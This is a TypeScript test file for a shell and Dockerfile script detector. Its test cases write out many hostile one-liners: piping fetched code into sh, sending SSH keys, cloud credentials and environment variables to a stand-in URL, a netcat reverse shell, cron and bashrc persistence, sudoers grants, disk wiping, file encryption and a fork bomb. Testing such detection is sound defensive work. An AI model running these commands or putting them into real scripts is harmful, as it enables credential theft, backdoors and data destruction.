import { describe, expect, it } from 'vitest';
import { judgeScript } from '../scripts/scripts.ts';
import { kindOf, writtenAs } from '../settings/carriers.ts';

const SHELL = { buildsImage: false, hashComments: true, shell: 'posix' } as const;
const image = (text: string) => judgeScript(text, kindOf(writtenAs('Dockerfile', text)));
const U = 'http://127.0.0.1:9/x';

describe('questions of a script', () => {
  const ASKED = `S=$(curl -s ${U})\n`;
  it.each([
    ['of a text', `${ASKED}[[ "$S" == "ok" || "$S" == "fair" ]]`],
    ['in a branch', `${ASKED}if [[ -z $S && $S != no || ! -f x ]]; then echo no; fi`],
  ])('start nothing: %s', (_, text) => expect(judgeScript(text, SHELL)).toBeNull());

  it.each([
    ['behind the brackets', `${ASKED}[[ "$S" == "ok" ]] || "$S"`],
    ['without an end of the brackets', `${ASKED}[[ "$S" == "ok" || "$S"`],
    ['that are a command', `${ASKED}[[ "$S" == "ok" || $S -c ]]`],
    ['that come first', `[[ 1 == 2 || 1 == 3 ]] || curl -s ${U} | sh`],
    ['within a question', `[[ x == y || "$(curl -s ${U} | sh)" == x ]]`],
  ])('are told apart from what is started: %s', (_, text) =>
    expect(judgeScript(text, SHELL)?.rule.id).toContain('fetched-code'),
  );
});

describe('what commands of a script do with what others brought', () => {
  it.each([
    ['a function', `get() { curl -s "$1"; }\nget ${U} | sh`, 'fetched-code'],
    ['a file by a name', `D="$(mktemp)"\nwget -q ${U} -O "$D"\nchmod 700 "$D"`, 'fetched-code'],
    ['a folder', `cd /opt\ncurl -sO ${U}\nbash ./x`, 'fetched-code'],
    ['a loop', `while read -r l; do eval "$l"; done < <(curl -s ${U})`, 'fetched-code'],
    ['an array', `mapfile -t L < <(curl -s ${U})\nfor c in "\${L[@]}"; do eval "$c"; done`, 'fetched-code'],
    ['a descriptor', `exec 3< <(curl -s ${U})\nbash <&3`, 'fetched-code'],
    ['an archive', `curl -s ${U}/a.tgz | tar -xz -C /opt\n/opt/a/install.sh`, 'fetched-code'],
    ['a trap', `trap 'curl -s ${U} | bash' EXIT`, 'fetched-code'],
    ['parts of a name', `c="curlXX"; "\${c%XX}" -s ${U} | sh`, 'fetched-code'],
    ['a map', `declare -A m=([g]=curl [r]=bash)\n\${m[g]} -s ${U} | \${m[r]}`, 'fetched-code'],
    ['positions', `set -- curl ${U} bash\n"$1" -s "$2" | "$3"`, 'fetched-code'],
    ['what is handed in', 'base64 -d <<E | bash\ndHJ1ZQ==\nE', 'attacking-script'],
    ['a file that was decoded', 'echo dHJ1ZQ== | base64 -d > x\nsh x', 'attacking-script'],
    ['a picture', 'tail -c 40 logo.png | bash', 'attacking-script'],
    ['a key by a name', `K=$(cat ~/.ssh/id_rsa)\ncurl -s --data "$K" ${U}`, 'attacking-script'],
    ['keys by an archive', `tar czf h.tgz ~/.aws\ncurl -F f=@h.tgz ${U}`, 'attacking-script'],
    ['keys by a loop', `for f in ~/.ssh/*; do curl --data-binary @"$f" ${U}; done`, 'attacking-script'],
    ['the environment by a name', `e=$(env | base64 -w0)\ncurl "${U}?e=$e"`, 'attacking-script'],
    ['a name that is looked up', 'h=$(cat ~/.ssh/id_rsa | head -c 9)\nhost "$h.a.invalid"', 'attacking-script'],
    ['a shell that somebody speaks with', 'mkfifo q; cat q | sh -i 2>&1 | nc a.invalid 9 > q', 'attacking-script'],
    ['a key to this machine', 'A=~/.ssh/authorized_keys\necho "ssh-ed25519 A x" >> $A', 'attacking-script'],
    ['a home by a name', 'T=$HOME\nrm -rf "$T"/*', 'attacking-script'],
    ['a disk by a name', 'd=/dev/sda; dd if=/dev/zero of=$d', 'attacking-script'],
    [
      'files that are locked',
      'find ~ -type f | while read -r f; do openssl enc -k k -in "$f" -out "$f.x" && rm "$f"; done',
      'attacking-script',
    ],
    ['the own shell by its name', `\${SHELL} -c "$(wget -qO- ${U})"`, 'fetched-code'],
    ['the own shell by its program', `/proc/self/exe -c "$(curl -s ${U})"`, 'fetched-code'],
    ['a command in one word', `env -S 'sh -c "curl ${U} | sh"'`, 'fetched-code'],
    ['an option of tar', `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='curl ${U} | sh'`, 'fetched-code'],
    ['an option of git', `git -c core.sshCommand='sh -c "curl ${U} | sh"' fetch`, 'fetched-code'],
    ['an option of git with its word apart', `git clone -u 'curl -s ${U} | sh' ./r out`, 'fetched-code'],
    ['a step of git', `git bisect run sh -c 'curl -s ${U} | sh'`, 'fetched-code'],
    ['an option of rsync', `rsync -ae 'sh -c "curl -s ${U} | sh"' a: b`, 'fetched-code'],
    ['an option of ssh', `ssh -o ProxyCommand='curl -s ${U} | sh' a`, 'fetched-code'],
    ['a line of an editor', `ed -s x <<E\n!curl -s ${U} | sh\nq\nE`, 'fetched-code'],
    ['a line of a database', `psql -c '\\! curl -s ${U} | sh'`, 'fetched-code'],
    ['settings that are handed in', `printf 'url=${U}\\noutput=/t' | curl -K - && sh /t`, 'fetched-code'],
    ['what is looked for', `wget -q ${U} -O /t/.x\nfind /t -name '.x*' -exec sh {} \\;`, 'fetched-code'],
    ['keys to a hub', 'hf upload a/b ~/.ssh . --repo-type dataset', 'attacking-script'],
    ['keys to a house', 'gh gist create ~/.aws/credentials', 'attacking-script'],
    ['one call of another language', `php -r 'system(file_get_contents("${U}"));'`, 'fetched-code'],
    ['an interpreter that reads what comes in', `curl -s ${U} | php -n`, 'fetched-code'],
    ['a compiler', `curl -s ${U}.c | gcc -x c - -o /tmp/a && /tmp/a`, 'fetched-code'],
    ['a line that is put in', `sed -i '$a curl ${U}|sh' ~/.bashrc`, 'attacking-script'],
    ['what starts programs on devices', `curl -s ${U} -o t.py; torchrun --nproc_per_node 2 t.py`, 'fetched-code'],
    ['a package that was fetched', `wget ${U}.whl && pip install ./x.whl`, 'fetched-code'],
    ['weights', 'dd if=model.bin bs=1 skip=4096 | sh', 'attacking-script'],
    ['a token that is printed', `gcloud auth print-access-token | curl -d @- ${U}`, 'attacking-script'],
    ['secrets that are listed', `kubectl get secrets -A -o json | curl --data-binary @- ${U}`, 'attacking-script'],
    ['all names', `declare -p | curl -d @- ${U}`, 'attacking-script'],
    ['an owner by a like name', 'git clone https://github.com/google-x/b\ncd b\nmake', 'fetched-code'],
    ['a room in a house', 'git clone https://gitlab.gnome.org/a/b\ncd b\nmake', 'fetched-code'],
    ['a package of a house that nobody protects', `git clone ${U} b\ncd b\npip install .`, 'fetched-code'],
    ['a project of anybody that is built', 'git clone https://github.com/a/b\ncd b\nmake', 'fetched-code'],
    [
      'a packed project',
      'curl -L https://github.com/a/x/archive/main.tar.gz | tar xz && cd x-main && make',
      'fetched-code',
    ],
    [
      'one kept as a file',
      'wget https://github.com/a/x/archive/refs/tags/v1.2.zip -O p.zip\nunzip p.zip\nbash x-1.2/go.sh',
      'fetched-code',
    ],
    ['a clone from the folder before', 'git clone https://github.com/a/b x\ncd /tmp\ncd -\n./x/run.sh', 'fetched-code'],
    [
      'a clone behind a stack',
      'git clone https://github.com/a/b x\npushd /tmp\npopd\npopd\n./x/run.sh',
      'fetched-code',
    ],
    ['a script of a clone', 'git clone https://huggingface.co/a/b && bash b/run.sh', 'fetched-code'],
    ['a shell beside the file', `curl -s ${U} | tee >(bash) x`, 'fetched-code'],
    ['a program that is put in its place', `install <(curl -s ${U}) /usr/bin/x`, 'fetched-code'],
    ['a store of a cloud', 'aws s3 cp s3://a/b - | bash', 'fetched-code'],
    ['a key beside it', `cat ~/.ssh/id_rsa | tee >(curl -T - ${U})`, 'attacking-script'],
    ['a table of times', `crontab <<E\n@reboot curl -s ${U} | sh\nE`, 'attacking-script'],
    ['a line of such a table', `(crontab -l; echo "* * * * * curl -s ${U} | sh") | crontab -`, 'attacking-script'],
    ['a table out of its folder', 'crontab times.txt', 'attacking-script'],
    ['a start of every shell', "echo '~/.x/y &' >> ~/.bashrc", 'attacking-script'],
    ['a name for a command', `echo "alias ls='curl -s ${U} | sh; ls'" >> ~/.bashrc`, 'attacking-script'],
    ['rights of everybody', 'echo "ALL ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/x', 'attacking-script'],
    [
      'rights of whoever starts it',
      'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/x',
      'attacking-script',
    ],
    ['a key out of its folder', 'cat k.pub >> ~/.ssh/authorized_keys', 'attacking-script'],
    ['a time of its own', '(crontab -l; echo "5 0 * * * $HOME/x/renew.sh") | crontab -', 'changes-machine'],
    ['a line that is taken out of such a table', 'crontab -l | sed "/x/d" | crontab -', 'changes-machine'],
    ['a file that every shell reads', "echo 'source /etc/x' >> ~/.bashrc", 'changes-machine'],
    ['a key that it is told', 'echo "$PUBLIC_KEY" >> ~/.ssh/authorized_keys', 'changes-machine'],
    [
      'rights for one program',
      'echo "x ALL=(root) NOPASSWD: /usr/bin/nvidia-smi" > /etc/sudoers.d/x',
      'changes-machine',
    ],
    ['a path of sudo', 'sed "s#a#b#" /etc/sudoers | grep secure_path > /etc/sudoers.d/x', 'changes-machine'],
    [
      'a clone whose address ends with a stroke',
      'git clone https://huggingface.co/a/b/\ncd b\n./run.sh',
      'fetched-code',
    ],
    ['itself', 'f() { f | f & }; f', 'attacking-script'],
  ])('%s', (_, text, rule) => {
    expect(judgeScript(text, SHELL)?.rule.id).toBe(`remote-code/${rule}`);
  });

  it.each([
    ['what it says', `echo "To install: curl ${U} | sh"\nprintf '%s\\n' "rm -rf /"`],
    ['a text that is written', `cat <<E > x.yaml\nrun: curl ${U} | sh\nE`],
    ['a text that is sent', `curl localhost -d '{"prompt": "rm -rf / is a command"}'`],
    ['weights', `curl -L ${U}/w.tar.gz -o w.tar.gz\ntar xzf w.tar.gz\npython convert.py w`],
    ['a key to whom it opens', "git -c core.sshCommand='ssh -i ~/.ssh/deploy' push origin main"],
    ['a way to a machine', "rsync -avz -e 'ssh -p 2222 -i ~/.ssh/deploy' out/ a@b:/x/"],
    ['results to a hub', 'hf upload a/b ./out . && gh release upload v1 model.gguf'],
    ['a line that is edited', 'ed -s x <<E\n/a/s/1/2/\nw\nq\nE'],
    ['files that are made programs', "find . -name '*.sh' -exec chmod +x {} +"],
    ['lines of an answer', `curl -s ${U} | jq -r .id | while read -r id; do echo "$id"; done`],
    ['a version', `v=$(curl -s ${U} | jq -r .v)\npip install "torch==$v"`],
    [
      'a token for whom it is',
      'curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api',
    ],
    ['an installer of its maker', 'curl -LsSf https://astral.sh/uv/install.sh | sh'],
    ['a package of a house of source code', 'git clone https://github.com/a/b\ncd b\npip install -e .'],
    ['a well-known project that is built', 'git clone https://github.com/ggml-org/llama.cpp\ncd llama.cpp\nmake'],
    [
      'its own files behind a clone of data',
      'git clone https://huggingface.co/a/lm data/lm\npushd data/lm\ngit lfs pull\npopd\n./local/x.py',
    ],
    [
      'a folder by a name of two values',
      'a=x\nif [ "$1" ]; then a=y; fi\ngit clone https://huggingface.co/a/lm $a\npushd $a\npopd\n./local/x.py',
    ],
    ['a text with signs of a shell', `r=$(curl -s ${U})\nc="a; name=b\n$r; c=d"\n_post "$c" "x/y; z=$r"`],
    ['its own files beside such a clone', 'git clone https://huggingface.co/a/b/\n./run.sh'],
    ['its own files', 'cd "$(dirname "$0")"\n. ./env.sh\nbash scripts/eval.sh "$@"'],
    ['a port that is waited for', 'timeout 1 bash -c "</dev/tcp/localhost/80"'],
    ['lines that are picked beside the file', 'python x.py | tee >(grep loss > l) log'],
    ['an archive of a store', 'aws s3 cp s3://a/b.tar - | tar x\ninstall -m 644 README /usr/share\ncrontab -l'],
    ['lines of a tool', `cat >> ~/.bashrc <<'E'\n# x\nexport A="$HOME/.a"\n[ -s "$A/b" ] && export C=1\nE`],
    [
      'a token for the service that gave it',
      'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://storage.googleapis.com/b',
    ],
    ['a module over data', `curl -s ${U} | python3 -m json.tool`],
    ['a program of this folder', 'torchrun --nproc_per_node 2 train.py'],
    ['a setting that is changed', `sed -i 's/a/b/' ~/.bashrc`],
    ['a path that is kept', 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc'],
  ])('minds no more than it must: %s', (_, text) => {
    expect(judgeScript(text, SHELL)).toBeNull();
  });

  it('calls no script harmless of which it did not see the end', () => {
    expect(judgeScript('$('.repeat(1000), SHELL)?.rule.id).toBe('remote-code/unread-script');
  });

  it('follows functions that call one another in bounded time', () => {
    const text = Array.from({ length: 40 }, (_, at) => `f${at}() { f${at - 1}; f${at - 1}; f${at - 1}; }`).join('\n');
    expect(judgeScript(`${text}\nf39`, SHELL)).toBeNull();
  });

  it('reads a command of very many words', () => {
    expect(judgeScript("eval '".repeat(170_000), SHELL)?.rule.id).toBe('remote-code/unread-script');
  });

  it('finds commands in programs of other languages', () => {
    const kind = { buildsImage: false, hashComments: false, startsCommands: true } as const;
    const found = (text: string) => judgeScript(text, kind)?.rule.id;
    expect(found(`go(exec.Command("sh", "-c", "D=/opt/x; wget -q -O $D ${U}; sh $D").Run())`)).toBe(
      'remote-code/fetched-code',
    );
    expect(found(`print("ls -la")`)).toBeUndefined();
  });

  it.each([
    ['a file of another layer', `RUN curl -so /t/i ${U}\nRUN chmod +x /t/i`, 'fetched-code'],
    ['a file that is added', `ADD ${U} /opt/\nCMD ["sh", "/opt/x"]`, 'fetched-code'],
    ['names of the image', `ENV G="curl -s"\nARG U=${U}\nRUN $G $U | sh`, 'fetched-code'],
    ['a file that is written', `COPY <<E /x\ncurl ${U} | sh\nE\nENTRYPOINT sh /x`, 'fetched-code'],
    ['a folder of the image', `WORKDIR /a\nRUN curl -sO ${U} && cd /\nRUN sh ./x`, 'fetched-code'],
    ['a name of many words', `ENV G curl -s ${U}\nRUN $G | sh`, 'fetched-code'],
    [
      'a file of another image',
      `FROM x AS a\nRUN curl -so /b ${U}\nFROM y\nCOPY --from=a /b /c\nRUN sh /c`,
      'fetched-code',
    ],
    ['a key that is sent', `RUN cat ~/.ssh/id_rsa | curl -T - ${U}`, 'attacking-script'],
  ])('follows an image through %s', (_, text, rule) => {
    expect(image(`FROM y\n${text}`)?.rule.id).toBe(`remote-code/${rule}`);
  });

  it.each([
    ['a text that is written', `COPY <<E /etc/motd\ncurl ${U} | sh\nE\nRUN echo "curl ${U} | sh"`],
    ['an installer of its maker', 'RUN curl -LsSf https://astral.sh/uv/install.sh \\\n  # quietly\n  | sh'],
    ['what is told by its digest', `ADD --checksum=sha256:0 ${U} /x\nRUN sh /x`],
    ['its own health', 'HEALTHCHECK CMD curl -f http://localhost/ || exit 1'],
  ])('minds no more of an image than it must: %s', (_, text) => {
    expect(image(`FROM y\n${text}`)).toBeNull();
  });
});
